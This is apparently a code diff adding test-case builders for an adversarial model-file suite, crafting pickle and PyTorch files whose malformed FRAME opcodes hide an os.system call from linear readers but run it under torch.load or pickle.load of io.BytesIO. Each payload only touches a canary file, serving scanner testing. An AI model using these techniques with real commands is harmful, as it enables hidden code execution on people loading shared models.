@@ -1654,3 +1654,41 @@ def hunt_npz_zipfile_negative_shift(path: Path, canary: Path) -> Path:
 
 
 ADVERSARIAL_BUILDERS["npz_zipfile_negative_shift"] = ("numpy", hunt_npz_zipfile_negative_shift)
+
+
+def _hunt_split_frame_pickle(canary: Path) -> bytes:
+    """A protocol 4 pickle whose FRAME ends inside BINUNICODE's 4-byte length. Read from bytes
+    or a buffered file it is one long string; the C unpickler reading a file object without
+    peek() (io.BytesIO: torch.load reads every zip's data.pkl through one) drops the length's
+    two framed bytes, reads the length afresh after the frame (1), and then runs os.system."""
+    payload = p_global("os", "system") + MARK + p_string(touch_cmd(canary)) + TUPLE + REDUCE + STOP
+    frame = b"X\x05\x00"
+    after = struct.pack("<I", 1) + b"A" + payload
+    linear = 5 | 1 << 16  # the length bytes and reading sees: 0x05 0x00 0x01 0x00
+    return (b"\x80\x04\x95" + struct.pack("<Q", len(frame)) + frame + after
+            + b"B" * (linear - len(after) + 2) + STOP)
+
+
+def hunt_split_frame_pickle(path: Path, canary: Path) -> Path:
+    """`_hunt_split_frame_pickle` as a plain pickle file (payload runs under pickle.load of an
+    io.BytesIO)."""
+    return _write(path, _hunt_split_frame_pickle(canary))
+
+
+def hunt_split_frame_zip(path: Path, canary: Path) -> Path:
+    """A torch zip whose data.pkl is `_hunt_split_frame_pickle`: torch.load reads data.pkl
+    through io.BytesIO, so the payload runs under a plain torch.load(path)."""
+    src = _torch_zip_bytes(Path(path).parent)
+    return _write(path, _rewrite_zip(src, {"/data.pkl": _hunt_split_frame_pickle(canary)}))
+
+
+def hunt_frame_past_stop_legacy(path: Path, canary: Path) -> Path:
+    """A legacy torch stream whose magic-number pickle has a FRAME that runs past its STOP: a
+    reader without peek() (torch.load of an io.BytesIO) starts the next pickle at the frame's
+    end, inside what a linear reading takes as a string, and runs the payload there."""
+    magic = b"\x8a\x0a" + (0x1950A86A20F9469CFC6C).to_bytes(10, "little")
+    payload = p_global("os", "system") + MARK + p_string(touch_cmd(canary)) + TUPLE + REDUCE + STOP
+    body = magic + STOP + PROTO2 + b"X" + struct.pack("<I", len(payload))
+    data = b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body + payload + STOP
+    data += b"\x80\x02M\xe9\x03." + b"\x80\x02}." + b"\x80\x02}." + b"\x80\x02]."
+    return _write(path, data)
